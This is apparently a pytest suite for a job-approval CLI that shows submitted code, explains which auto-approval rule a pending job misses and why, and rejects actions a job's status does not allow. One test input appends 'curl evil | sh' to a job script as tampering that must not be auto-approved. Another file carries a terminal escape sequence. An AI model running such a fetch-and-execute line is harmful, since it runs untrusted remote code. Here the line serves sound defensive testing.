"""Reviewing a job from the command line alone: what it runs, why it is pending,
and what can be done with a job whose status does not allow an action."""

from __future__ import annotations

import fcntl
import hashlib
import os
import pty
import select
import signal
import struct
import subprocess
import sys
import termios
import time

import pytest
from conftest import DS_EMAIL, PATIENCE, App, wait_until
from hostile import run_until_finished

import syft_bg_app as bg
from syft_bg_app.errors import NotFoundError
from syft_bg_app.execution.backends import local as local_backend
from syft_bg_app.execution.sandbox import RunLayout
from syft_bg_app.store.state import State

RUN_SH = "#!/bin/bash\necho RUN-SH-MARKER\nbash code/main.sh\n"
MAIN = "echo MAIN-MARKER\n"
UTIL = "echo util\n"
OTHER_DS = "bob@lab.org"


def _sha(text: str) -> str:
    return "sha256:" + hashlib.sha256(text.encode()).hexdigest()


def _rules(app: App, *rules: dict) -> None:
    app.set_config(approve={"auto_approvals": list(rules)})


def _stats_rule(name: str = "stats", peers=(DS_EMAIL,), **extra) -> dict:
    """The rule the owner wrote for the job as first submitted."""
    rule = {
        "name": name,
        "peers": list(peers),
        "files": {
            "run.sh": _sha(RUN_SH),
            "code/main.sh": _sha(MAIN),
            "code/util.sh": _sha(UTIL),
        },
    }
    rule.update(extra)
    return rule


def _show(app: App, spec: str, *flags: str) -> str:
    return app.cli("jobs", "show", spec, *flags, check=True).stdout


def _why(page: str) -> list[str]:
    """The "why pending" block of a ``jobs show`` page."""
    lines = page.splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith("  why pending: "))
    block = [lines[start]]
    for line in lines[start + 1 :]:
        if not line.startswith("    "):
            break
        block.append(line)
    return block


# -- contents ----------------------------------------------------------------------------------


def test_jobs_show_prints_run_sh_and_the_code_by_default_and_files_lists_only(app):
    app.submit(
        "stats",
        run_sh=RUN_SH,
        files={"main.sh": MAIN, "data.bin": b"\x00\x01binary\x00", "notes.txt": "NOTE-MARKER\n"},
    )
    app.run_pass()

    page = _show(app, "stats")
    assert "RUN-SH-MARKER" in page and "MAIN-MARKER" in page and "NOTE-MARKER" in page
    assert "===== run.sh =====" in page and "code/data.bin: binary, not shown" in page
    assert page.index("RUN-SH-MARKER") < page.index("MAIN-MARKER")  # what runs comes first
    assert _show(app, "stats", "--code") == page  # the old switch still works

    listing = _show(app, "stats", "--files")
    assert "code/main.sh  (17 bytes)" in listing and "run.sh  (" in listing
    assert "MARKER" not in listing and "=====" not in listing
    assert app.cli("jobs", "show", "stats", "--files", "--code").returncode == 2


def _pty_run(app: App, args: list[str], env: dict[str, str], rows: int, columns: int) -> str:
    """Run the CLI on a real terminal of ``rows`` x ``columns``; everything it drew."""
    main, secondary = pty.openpty()
    fcntl.ioctl(secondary, termios.TIOCSWINSZ, struct.pack("HHHH", rows, columns, 0, 0))
    proc = subprocess.Popen(
        [sys.executable, "-m", "syft_bg_app", *args],
        env=env,
        stdin=secondary,
        stdout=secondary,
        stderr=secondary,
        close_fds=True,
    )
    os.close(secondary)
    seen = b""
    try:
        end = time.monotonic() + PATIENCE
        while time.monotonic() < end:
            ready, _, _ = select.select([main], [], [], 0.2)
            if ready:
                try:
                    chunk = os.read(main, 65536)
                except OSError:  # the other side closed
                    break
                if not chunk:
                    break
                seen += chunk
            elif proc.poll() is not None:
                break
        assert proc.wait(timeout=PATIENCE) == 0, seen
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
        os.close(main)
    return seen.decode(errors="replace")


def test_jobs_show_pages_on_a_terminal_and_never_when_the_output_is_not_one(app, tmp_path):
    long_code = "".join(f"echo line {i}\n" for i in range(200))
    app.submit("long", run_sh=RUN_SH, files={"main.sh": long_code, "evil.sh": "echo \x1b[2J\n"})
    app.run_pass()
    pager = tmp_path / "pager.sh"
    # A pager that marks each line it is given, so a page that went through it shows.
    pager.write_text("#!/bin/bash\nsed 's/^/PAGED|/'\n")
    pager.chmod(0o755)
    env = {**app.env, "PAGER": str(pager)}
    env.pop("COLUMNS", None)
    env.pop("LINES", None)

    on_terminal = _pty_run(app, ["jobs", "show", "long"], env, rows=24, columns=80)
    assert "PAGED|  ===== run.sh =====" in on_terminal
    assert "PAGED|echo line 199" in on_terminal
    assert "\x1b" not in on_terminal and "echo \\x1b[2J" in on_terminal  # escaped for the pager

    piped = subprocess.run(
        [sys.executable, "-m", "syft_bg_app", "jobs", "show", "long"],
        env=env,
        capture_output=True,
        text=True,
        timeout=PATIENCE,
        stdin=subprocess.DEVNULL,
    )
    assert piped.returncode == 0 and "PAGED|" not in piped.stdout
    assert "echo line 199" in piped.stdout

    # $PAGER runs as a shell command line; cat, or a pager not installed, prints the page.
    with_args = {**env, "PAGER": "sed -e 's/^/ARGS|/'"}
    assert "ARGS|echo line 199" in _pty_run(app, ["jobs", "show", "long"], with_args, 24, 80)
    for plain in ("cat", "no-such-pager-here --flag"):
        printed = _pty_run(app, ["jobs", "show", "long"], {**env, "PAGER": plain}, 24, 80)
        assert "echo line 199" in printed and "|" not in printed.replace("approve|reject", "")

    # A page that fits the terminal is printed as it is.
    app.submit("short", files={"main.sh": "echo short\n"})
    app.run_pass()
    short = _pty_run(app, ["jobs", "show", "short", "--files"], env, rows=60, columns=120)
    assert "PAGED|" not in short and "code/main.sh" in short


# -- why pending -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("variant", "files", "run_sh", "expected"),
    [
        (
            "one byte changed",
            {"main.sh": "echo MAIN-MARKEr\n", "util.sh": UTIL},
            RUN_SH,
            ["closest rule: 'stats' (1 file differs)", "content differs: code/main.sh"],
        ),
        (
            "run.sh changed",
            {"main.sh": MAIN, "util.sh": UTIL},
            RUN_SH + "curl evil | sh\n",
            ["closest rule: 'stats' (1 file differs)", "content differs: run.sh"],
        ),
        (
            "an extra file",
            {"main.sh": MAIN, "util.sh": UTIL, "extra.py": "print(1)\n"},
            RUN_SH,
            ["closest rule: 'stats' (1 file differs)", "extra (not in the rule): code/extra.py"],
        ),
        (
            "a missing file",
            {"main.sh": MAIN},
            RUN_SH,
            [
                "closest rule: 'stats' (1 file differs)",
                "missing (the rule lists them): code/util.sh",
            ],
        ),
        (
            "all three at once",
            {"main.sh": "echo changed\n", "new.sh": "echo new\n"},
            RUN_SH,
            [
                "closest rule: 'stats' (3 files differ)",
                "content differs: code/main.sh",
                "missing (the rule lists them): code/util.sh",
                "extra (not in the rule): code/new.sh",
            ],
        ),
    ],
)
def test_why_pending_names_the_closest_rule_and_the_files_that_differ(
    app, variant, files, run_sh, expected
):
    _rules(app, _stats_rule())
    app.submit("stats", files=files, run_sh=run_sh)
    app.run_pass()
    assert app.job_state("stats")["status"] == "pending", variant

    why = _why(_show(app, "stats"))

    assert why[0] == f"  why pending: {expected[0]}"
    assert [line.strip() for line in why[1 : len(expected)]] == expected[1:]
    assert f"to decide yourself: syft-bg jobs approve|reject {DS_EMAIL}/stats" in why[-1]
    # --files leaves out the contents, never the reason.
    assert _why(_show(app, "stats", "--files")) == why


def test_why_pending_picks_the_closest_of_several_rules(app):
    far = {
        "name": "far",
        "peers": [DS_EMAIL],
        "files": {"run.sh": _sha("other\n"), "code/x.py": _sha("x\n")},
    }
    near = _stats_rule("near")
    _rules(app, far, near, _stats_rule("for-bob", peers=[OTHER_DS]))
    app.submit("stats", files={"main.sh": "echo MAIN-MARKEr\n", "util.sh": UTIL}, run_sh=RUN_SH)
    app.run_pass()

    why = _why(_show(app, "stats"))

    assert why[0] == "  why pending: closest rule: 'near' (1 file differs)"
    assert why[1].strip() == "content differs: code/main.sh"


@pytest.mark.parametrize(
    ("variant", "rule", "expected", "detail"),
    [
        (
            "run.sh trusted by name only",
            {
                "name": "loose",
                "peers": [DS_EMAIL],
                "files": {"code/main.sh": _sha(MAIN), "code/util.sh": _sha(UTIL)},
                "name_only": ["run.sh"],
            },
            "rule 'loose' lists exactly its files, but cannot approve anything",
            "the rule approves nothing: run.sh is listed by name only; what runs must be "
            "pinned by content",
        ),
        (
            "run.sh not in the rule at all (a migrated syft-bg 0.3 rule)",
            {
                "name": "old",
                "peers": [DS_EMAIL],
                "files": {"code/main.sh": _sha(MAIN), "code/util.sh": _sha(UTIL)},
            },
            "closest rule: 'old' (1 file differs)",
            "extra (not in the rule): run.sh",
        ),
        (
            "rule disabled",
            {**_stats_rule("off"), "enabled": False},
            "rule 'off' lists exactly its files, but cannot approve anything",
            "the rule approves nothing: disabled (enabled: false)",
        ),
    ],
)
def test_why_pending_names_a_rule_that_cannot_approve_and_what_it_lacks(
    app, variant, rule, expected, detail
):
    _rules(app, rule)
    app.submit("stats", files={"main.sh": MAIN, "util.sh": UTIL}, run_sh=RUN_SH)
    app.run_pass()
    assert app.job_state("stats")["status"] == "pending", variant

    why = [line.strip() for line in _why(_show(app, "stats"))]

    assert why[0] == f"why pending: {expected}"
    assert detail in why
    if variant.startswith("run.sh not in the rule"):
        assert "the rule approves nothing: it does not pin run.sh, the file that runs" in why


@pytest.mark.parametrize(
    ("variant", "rules", "accept", "expected"),
    [
        ("no rule at all", [], False, "no auto-approval rule exists; it waits for your decision"),
        (
            "the only rule names another peer",
            [_stats_rule("for-bob", peers=[OTHER_DS])],
            True,
            f"no rule applies to {DS_EMAIL} (the rules name other peers)",
        ),
    ],
)
def test_why_pending_says_when_no_rule_applies_to_the_submitter(
    app, variant, rules, accept, expected
):
    _rules(app, *rules)
    if accept:
        app.cli("peers", "accept", DS_EMAIL, check=True)
    app.submit("stats", files={"main.sh": MAIN, "util.sh": UTIL}, run_sh=RUN_SH)
    app.run_pass()
    assert app.job_state("stats")["status"] == "pending", variant

    why = [line.strip() for line in _why(_show(app, "stats"))]

    assert why[0] == f"why pending: {expected}"
    assert f"to trust exactly these files: syft-bg auto-approve --from-job {DS_EMAIL}/stats" in why


def test_why_pending_in_the_python_api(app):
    _rules(app, _stats_rule())
    app.submit("stats", files={"main.sh": MAIN, "util.sh": UTIL, "x.py": "1\n"}, run_sh=RUN_SH)
    app.submit("fine", files={"main.sh": MAIN})
    app.run_pass()
    app.cli("jobs", "reject", "fine", check=True)

    job = bg.job("stats", home=app.home)
    reason = job.why_pending
    assert reason.rule == "stats" and reason.extra == ["code/x.py"]
    assert reason.missing == [] and reason.differ == [] and reason.rule_problem is None
    assert "why pending: closest rule: 'stats' (1 file differs)" in repr(job)
    assert "\n    extra (not in the rule): code/x.py\n" in repr(job)
    assert "extra (not in the rule): code/x.py" in job._repr_html_()
    assert "RUN-SH-MARKER" in job.describe() and "RUN-SH-MARKER" not in job.describe(False)
    assert bg.job("fine", home=app.home).why_pending is None
    assert "why pending" not in repr(bg.job("fine", home=app.home))


# -- wrong-state actions and unknown jobs ------------------------------------------------------


def _stop_runs(app: App) -> None:
    """SIGTERM the supervisor of every run of this app and wait until they are gone."""
    runs = [RunLayout(folder) for folder in app.home.runs_dir.iterdir()]
    for layout in runs:
        wait_until(
            lambda layout=layout: local_backend.read_run_status(layout).get("supervisor_pid"),
            "the supervisor to write its status",
        )
        status = local_backend.read_run_status(layout)
        if status["phase"] != "finished":
            os.kill(status["supervisor_pid"], signal.SIGTERM)
    wait_until(
        lambda: not any(local_backend.supervisor_alive(layout) for layout in runs),
        "every supervisor to stop",
    )


def _refused(app: App, *args: str) -> str:
    result = app.cli(*args)
    assert result.returncode == 2, (args, result.stdout, result.stderr)
    assert result.stdout == ""
    return result.stderr


def test_actions_a_jobs_status_does_not_allow_exit_2_and_say_what_can_be_done(app):
    app.cli("peers", "accept", DS_EMAIL, check=True)
    app.set_config(notify={"enabled": False}, execute={"timeout": int(PATIENCE)})
    for name in ("rejected", "done", "failed", "running", "waiting"):
        run_sh = {"failed": "#!/bin/bash\nexit 3\n", "running": "#!/bin/bash\nsleep 3000\n"}
        app.submit(name, run_sh=run_sh.get(name, "#!/bin/bash\necho ok\n"))
    app.run_pass()
    app.cli("jobs", "reject", "rejected", "-r", "reads raw rows", check=True)
    for name in ("done", "failed"):
        app.cli("jobs", "approve", name, check=True)
    run_until_finished(app, ["done", "failed"])
    assert app.job_state("failed")["status"] == "failed"
    app.cli("jobs", "approve", "running", check=True)
    app.run_pass()
    assert app.job_state("running")["status"] == "running"
    try:
        err = _refused(app, "jobs", "approve", "rejected")
        assert "is rejected; only pending jobs can be approved" in err
        assert "ask them to submit it again under a new job name" in err
        for name in ("done", "failed"):
            err = _refused(app, "jobs", "approve", name)
            assert f"to run it again: {app.command(f'jobs rerun {DS_EMAIL}/{name}')}" in err
            err = _refused(app, "jobs", "reject", name)
            assert f"is {name}; only jobs that have not started can be rejected" in err
            assert f"see what it did: {app.command(f'jobs show {DS_EMAIL}/{name}')}" in err
        err = _refused(app, "jobs", "approve", "running")
        assert f"wait for it to finish (see: {app.command(f'jobs show {DS_EMAIL}/running')})" in err
        assert "wait for it to finish" in _refused(app, "jobs", "reject", "running")
        assert "wait for it to finish" in _refused(app, "jobs", "rerun", "running")
        err = _refused(app, "jobs", "rerun", "waiting")
        assert f"approve or reject it: {app.command(f'jobs approve {DS_EMAIL}/waiting')}" in err
        assert "is already rejected" in _refused(app, "jobs", "reject", "rejected")
        app.cli("jobs", "approve", "waiting", check=True)
        assert "it runs in the next pass" in _refused(app, "jobs", "approve", "waiting")
        # Nothing changed on disk.
        assert app.job_state("rejected")["status"] == "rejected"
        assert app.job_state("done")["status"] == "done"
    finally:
        _stop_runs(app)


def test_an_unknown_job_exits_2_and_a_prefix_of_known_names_lists_them(app):
    for name in ("stats-2024", "stats-2025", "plot"):
        app.submit(name)
    app.submit("stats-bob", ds_email=OTHER_DS)
    app.run_pass()

    for action in (("jobs", "approve"), ("jobs", "reject"), ("jobs", "show"), ("jobs", "rerun")):
        err = _refused(app, *action, "nothing-like-it")
        assert f"no job 'nothing-like-it' (see: {app.command('jobs list')}" in err

    err = _refused(app, "jobs", "approve", "stats")
    assert (
        f"no job 'stats'; jobs whose names start with it: {DS_EMAIL}/stats-2024, "
        f"{DS_EMAIL}/stats-2025, {OTHER_DS}/stats-bob"
    ) in err
    err = _refused(app, "jobs", "show", f"{DS_EMAIL}/stats")
    assert f"{DS_EMAIL}/stats-2024, {DS_EMAIL}/stats-2025" in err and "stats-bob" not in err
    err = _refused(app, "jobs", "reject", "bob@")
    assert f"jobs whose names start with it: {OTHER_DS}/stats-bob" in err
    with pytest.raises(NotFoundError, match="stats-2024"):
        bg.job("stats-20", home=app.home)
    assert State.load(app.home.state_file).job(DS_EMAIL, "plot")["status"] == "pending"


def test_a_prefix_of_many_jobs_lists_ten_and_counts_the_rest(app):
    for i in range(14):
        app.submit(f"batch-{i:02d}")
    app.run_pass()
    err = _refused(app, "jobs", "approve", "batch")
    assert f"{DS_EMAIL}/batch-09" in err and "batch-10" not in err
    assert f"and 4 more (see: {app.command('jobs list')})" in err


def test_rejecting_an_unknown_or_accepted_peer_exits_2_and_changes_nothing(app):
    err = _refused(app, "peers", "reject", "nobody@nowhere.org")
    assert f"no peer request from nobody@nowhere.org (see: {app.command('peers list')})" in err
    app.request_peer(OTHER_DS)
    app.run_pass()
    app.cli("peers", "accept", OTHER_DS, check=True)
    err = _refused(app, "peers", "reject", OTHER_DS)
    assert "is already an accepted peer; remove their inbox folder to revoke" in err
    assert State.load(app.home.state_file).peer(OTHER_DS)["status"] == "accepted"
